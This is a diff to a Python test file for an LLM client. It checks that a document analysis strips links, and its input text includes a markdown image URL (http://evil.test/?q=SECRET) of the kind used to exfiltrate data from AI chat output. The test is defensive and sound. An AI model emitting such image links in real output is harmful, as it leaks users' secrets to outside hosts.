@@ -455,9 +455,11 @@ def test_a_quote_cites_and_links_nothing_itself(
 
 
 def test_an_analysis_links_nothing(client: LLMBackendClient) -> None:
-    text = "The harbour is deep [7], says ![x](http://evil.test/?q=SECRET)[the mayor](http://evil.test/plan). It is old."
+    text = "The harbour is deep [7], says ![x](http://evil.test/?q=SECRET)[the mayor](http://evil.test/plan)."
     analysis = client.analyze_document(text)
-    assert "The harbour is deep [7], says the mayor (evil.test)." in analysis.key_points
+    assert (
+        "The harbour is deep [7], says the mayor (evil.test)." in f"{analysis.summary} {analysis.key_points}"
+    )
     assert "evil.test/" not in analysis.summary
 
 
